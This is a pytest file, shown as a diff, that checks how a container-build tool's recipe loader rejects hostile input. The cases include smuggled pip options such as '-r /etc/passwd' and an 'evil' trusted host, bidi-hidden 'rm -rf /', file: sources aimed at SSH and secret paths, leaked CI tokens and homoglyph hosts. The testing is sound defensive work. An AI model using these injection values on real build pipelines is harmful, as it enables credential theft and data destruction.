@@ -1,0 +1,264 @@
+"""Round three's hostile inputs, as tables: each class from ../shared/docs/probe-3.md (numbers in the test
+names) crossed with every way it can be abused, and the cases found beyond it."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+import yaml
+
+from imgbuild.errors import RecipeError, UsageError
+from imgbuild.recipe import load_recipe
+
+HEAD = 'name: demo\nbase: {framework: pytorch, tag: "24.05"}\n'
+
+#: Every white space and control character a value can smuggle, by what it is.
+WHITESPACE_AND_CONTROLS = {
+    "tab": "\t",
+    "vertical-tab": "\x0b",
+    "form-feed": "\x0c",
+    "carriage-return": "\r",
+    "nel-c1": "\x85",
+    "csi-c1": "\x9b",
+    "escape": "\x1b",
+    "delete": "\x7f",
+    "nbsp": "\xa0",
+    "ideographic-space": "\u3000",
+    "line-separator": "\u2028",
+    "paragraph-separator": "\u2029",
+    "rtl-override": "\u202e",
+    "rtl-isolate": "\u2067",
+}
+#: Every recipe field whose value reaches a pip file (requirements.txt, pip.conf, constraints), as YAML.
+PIP_FIELDS = {
+    "pip.packages[0]": lambda v: f"pip:\n  packages: [{v}]\n",
+    "pip.constraints[0]": lambda v: f"pip:\n  constraints: [{v}]\n",
+    "pip.index_url": lambda v: f"pip:\n  index_url: {v}\n",
+    "pip.extra_index_urls[0]": lambda v: f"pip:\n  extra_index_urls: [{v}]\n",
+    "pip.trusted_hosts[0]": lambda v: f"pip:\n  trusted_hosts: [{v}]\n",
+}
+PIP_VALUES = {
+    "pip.packages[0]": "einops{c}--find-links{c}/tmp",
+    "pip.constraints[0]": "numpy<2{c}-r{c}/etc/passwd",
+    "pip.index_url": "https://pypi.example/simple{c}-r{c}/etc/passwd",
+    "pip.extra_index_urls[0]": "https://pypi.example/simple{c}--trusted-host{c}evil",
+    "pip.trusted_hosts[0]": "pypi.example{c}--index-url",
+}
+
+
+def _quoted(value: str) -> str:
+    return json.dumps(value)  # a YAML double-quoted scalar: every character arrives as written
+
+
+def _lines(tmp_path, text: str) -> list[str]:
+    (tmp_path / ".git").mkdir(exist_ok=True)
+    path = tmp_path / "recipe.yaml"
+    path.write_text(text, encoding="utf-8")
+    with pytest.raises(RecipeError) as info:
+        load_recipe(path)
+    assert info.value.exit_code == 2
+    return info.value.lines()
+
+
+@pytest.mark.parametrize("char", WHITESPACE_AND_CONTROLS, ids=list(WHITESPACE_AND_CONTROLS))
+@pytest.mark.parametrize("field", PIP_FIELDS, ids=list(PIP_FIELDS))
+def test_5_no_white_space_or_control_character_reaches_a_pip_file(field, char, tmp_path):
+    """probe-3 #5: a TAB in an index URL became `-r /etc/passwd` in the pip step."""
+    value = PIP_VALUES[field].format(c=WHITESPACE_AND_CONTROLS[char])
+    lines = _lines(tmp_path, HEAD + PIP_FIELDS[field](_quoted(value)))
+    assert any(re.search(rf"recipe\.yaml:\d+:\d+: {re.escape(field)}: ", ln) for ln in lines), lines
+
+
+@pytest.mark.parametrize("char", WHITESPACE_AND_CONTROLS, ids=list(WHITESPACE_AND_CONTROLS))
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://pypi.example/simple{c}-r{c}/etc/passwd",
+        "--extra-index-url https://pypi.example/simple{c}-e{c}git+https://evil/x.git",
+        "--trusted-host pypi.example{c}--find-links{c}/tmp",
+        "einops{c}-r{c}/etc/passwd",
+        "x @ https://files.example/x.whl{c}--no-index",
+    ],
+    ids=["index-url", "extra-index-url", "trusted-host", "requirement", "url-requirement"],
+)
+def test_5_a_requirements_file_line_cannot_smuggle_options(line, char, tmp_path):
+    (tmp_path / "req.txt").write_text(line.format(c=WHITESPACE_AND_CONTROLS[char]) + "\n", encoding="utf-8")
+    lines = _lines(tmp_path, HEAD + "pip: {requirements: req.txt}\n")
+    assert any(
+        ln.startswith(f"{tmp_path.name}/req.txt:1:1: pip.requirements: ") or "req.txt:1:1:" in ln for ln in lines
+    )
+    assert not any("passwd" in ln or "evil" in ln for ln in lines), lines  # the line is never echoed
+
+
+FREE_TEXT = {
+    "description": lambda v: f"description: {v}\n",
+    "env.A": lambda v: f"env: {{A: {v}}}\n",
+    "labels.team": lambda v: f"labels: {{team: {v}}}\n",
+    "run[0]": lambda v: f"run: [{v}]\n",
+    "smoke.run[0]": lambda v: f"smoke: {{run: [{v}]}}\n",
+    "args.LAB": lambda v: f"args: {{LAB: {v}}}\n",
+}
+TROJAN = {k: v for k, v in WHITESPACE_AND_CONTROLS.items() if k not in ("tab", "nbsp", "ideographic-space")}
+
+
+@pytest.mark.parametrize("char", TROJAN, ids=list(TROJAN))
+@pytest.mark.parametrize("field", FREE_TEXT, ids=list(FREE_TEXT))
+def test_14_free_text_refuses_controls_separators_and_bidi_by_category(field, char, tmp_path):
+    """probe-3 #14: U+202E, U+2066..2069, U+2028 and NEL passed every free-text check (Trojan Source)."""
+    value = f"echo safe{TROJAN[char]}rm -rf /"
+    lines = _lines(tmp_path, HEAD + FREE_TEXT[field](_quoted(value)))
+    assert any(f" {field}: " in ln and "U+" in ln for ln in lines), lines
+
+
+@pytest.mark.parametrize("field", FREE_TEXT, ids=list(FREE_TEXT))
+def test_14_plain_text_with_tabs_and_non_latin_letters_still_validates(field, tmp_path):
+    (tmp_path / ".git").mkdir()
+    path = tmp_path / "recipe.yaml"
+    path.write_text(HEAD + FREE_TEXT[field](_quoted("echo 'größe\tnäher' — 日本語 ✓")), encoding="utf-8")
+    load_recipe(path)
+
+
+@pytest.mark.parametrize(
+    ("text", "field"),
+    [
+        ('name: demo\nbase: {framework: pytorch, tag: "٢٤.٠٥"}\n', "base.tag"),
+        ('name: demo\nbase: {framework: pytorch, tag: "２４.０５"}\n', "base.tag"),
+        ('name: demo\nbase: {framework: pytorch, tag: "24.05", follow: "٢٤.*"}\n', "base.follow"),
+        (HEAD + "smoke: {targets: [sm_٨٩]}\n", "smoke.targets[0]"),
+        (HEAD + 'smoke: {targets: ["٨.٩"]}\n', "smoke.targets[0]"),
+        (HEAD + "user: {name: u, uid: ١٠٠٠}\n", "user.uid"),
+    ],
+    ids=["tag-arabic", "tag-fullwidth", "follow-arabic", "target-sm", "target-capability", "uid"],
+)
+def test_8_only_ascii_digits_make_a_number_or_a_tag(text, field, tmp_path):
+    """probe-3 #8: `٢٤.٠٥` validated and became a FROM line; a hostile registry's `٩٩.٩٩-py3` was bumped to."""
+    lines = _lines(tmp_path, text)
+    assert any(f" {field}: " in ln for ln in lines), lines
+
+
+def test_8_a_registry_tag_in_other_digits_is_never_a_release():
+    from imgbuild.ngc import matching, parse_tag
+
+    assert parse_tag("٩٩.٩٩-py3") is None and parse_tag("２６.０１-py3") is None
+    assert matching("pytorch", "latest", ["٩٩.٩٩-py3", "２６.０１-py3", "24.05-py3"]) == ["24.05-py3"]
+
+
+@pytest.mark.parametrize(
+    ("parse", "text"),
+    [
+        ("duration", "١h"),
+        ("duration", "٣d"),
+        ("gpus", "٢"),
+        ("gpus", "1,٣"),
+        ("gpus", "device=٠"),
+        ("cpulist", "٠-٣"),
+        ("driver", "٥٣٥.104.05"),
+    ],
+)
+def test_21_unicode_digits_are_refused_wherever_a_number_is_parsed(parse, text):
+    from imgbuild import fleet, gpus, host, run
+
+    if parse == "duration":
+        with pytest.raises(UsageError):
+            run.parse_duration(text, "--time")
+    elif parse == "gpus":
+        readings = [gpus.Gpu(i, f"GPU-{i}", "H100", 0, 81559, 0) for i in range(4)]
+        with pytest.raises(UsageError):
+            gpus.select_gpus(text, readings, "me")
+    elif parse == "cpulist":
+        with pytest.raises(ValueError):
+            host.parse_cpulist(text)
+    else:
+        with pytest.raises(UsageError):
+            fleet.check_driver(text)
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "x @ file:///etc/passwd",
+        "x @ file:///run/secrets/imgbuild-pip.conf",
+        "x @ git+file:///root/.ssh",
+        "x @ hg+file:///srv/repo",
+    ],
+)
+def test_15_file_sources_are_refused_in_recipes_and_requirements_files(spec, tmp_path):
+    """probe-3 #15: `NAME @ file:` named a path of the build container; the docs say local paths are refused."""
+    lines = _lines(tmp_path, HEAD + f"pip: [{_quoted(spec)}]\n")
+    assert any(" pip.packages[0]: " in ln and "file:" in ln for ln in lines), lines
+    (tmp_path / "req.txt").write_text(spec + "\n")
+    lines = _lines(tmp_path, HEAD + "pip: {requirements: req.txt}\n")
+    assert any("req.txt:1:1: pip.requirements: a local path (file:)" in ln for ln in lines), lines
+
+
+@pytest.mark.parametrize(
+    "name", ["CI_JOB_JWT", "CI_JOB_JWT_V2", "CI_JOB_JWT_V1", "ACTIONS_ID_TOKEN_REQUEST_URL", "VAULT_ID_TOKEN"]
+)
+def test_16_ci_identity_tokens_are_secrets(name, tmp_path, monkeypatch):
+    """probe-3 #16: GitLab's OIDC job token was interpolated into a label."""
+    monkeypatch.setenv(name, "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJwMyJ9.c2ln")
+    lines = _lines(tmp_path, HEAD + f'labels: {{built-by: "${{{name}:-none}}"}}\n')
+    assert any(" labels.built-by: " in ln for ln in lines) and not any("eyJ" in ln for ln in lines), lines
+
+
+def test_16_a_value_shaped_like_a_jwt_is_a_secret_whatever_its_name(tmp_path, monkeypatch):
+    monkeypatch.setenv("INNOCENT", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJwMyJ9.c2lnbmF0dXJl")
+    lines = _lines(tmp_path, HEAD + 'labels: {by: "${INNOCENT}"}\n')
+    assert any(" labels.by: " in ln for ln in lines) and not any("eyJ" in ln for ln in lines), lines
+
+
+@pytest.mark.parametrize("value", ["-5", "0", "-0.1", "-.inf"])
+def test_17_min_speedup_is_a_positive_number(value, tmp_path):
+    """probe-3 #17: a negative floor passed every ratio, switching the tensor-core check off."""
+    lines = _lines(tmp_path, HEAD + f"smoke: {{min_speedup: {value}}}\n")
+    assert any(" smoke.min_speedup: " in ln for ln in lines), lines
+
+
+@pytest.mark.parametrize("host", ["руpi.org", "xn--pi-llc7a.org\t", "pypi.org\u200b"])
+def test_22_an_index_host_is_ascii(host, tmp_path):
+    """probe-3 #22: `https://руpi.org/simple` (Cyrillic р, у) validated; a reviewer reads pypi.org."""
+    lines = _lines(tmp_path, HEAD + f"pip: {{index_url: {_quoted(f'https://{host}/simple')}}}\n")
+    assert any(" pip.index_url: " in ln for ln in lines), lines
+
+
+def test_the_config_file_refuses_the_same_characters(tmp_path, monkeypatch):
+    """The site config is text someone else wrote too: a bidi control in a mount, a TAB in an env value."""
+    from imgbuild.config import load_settings
+
+    site = tmp_path / "site.yaml"
+    monkeypatch.setenv("IMGBUILD_SITE_CONFIG", str(site))
+    for section in (
+        {"run": {"mounts": ["/data:/data\u202e"]}},
+        {"run": {"env": {"A": "x\u2028y"}}},
+        {"run": {"max_time": "١d"}},
+        {"reap": {"exempt": ["gitlab-runner\u2067*"]}},
+    ):
+        site.write_text(yaml.safe_dump(section, allow_unicode=True))
+        with pytest.raises(RecipeError):
+            load_settings({})
+
+
+@pytest.mark.parametrize(
+    ("flags", "words"),
+    [
+        ({"cpus": float("nan")}, "--cpus nan: not a number of CPUs"),
+        ({"cpus": float("inf")}, "--cpus inf: not a number of CPUs"),
+        ({"cpus": -5.0}, "--cpus -5.0: not a number of CPUs"),
+        ({"cpus": 1e308}, "not a number of CPUs"),
+        ({"time": "0"}, "--time 0: a deadline must be later than now"),
+        ({"time": "0d"}, "a deadline must be later than now"),
+        ({"time": "١h"}, "is not a duration"),
+    ],
+)
+def test_21_run_refuses_garbage_numbers_as_usage_errors(flags, words, tmp_path, monkeypatch):
+    """probe-3 #21: `--cpus nan` was a traceback (exit 1), `--cpus 1e308` reached docker, `--time 0` meant now."""
+    from imgbuild.config import load_settings
+    from imgbuild.run import RunRequest, prepare
+
+    snapshot = tmp_path / "snap.json"
+    snapshot.write_text(json.dumps({"gpus": []}))
+    monkeypatch.setenv("IMGBUILD_GPU_SNAPSHOT", str(snapshot))
+    with pytest.raises(UsageError, match=re.escape(words)):
+        prepare(RunRequest("img", ["true"], **flags), load_settings({}), gpus=[])
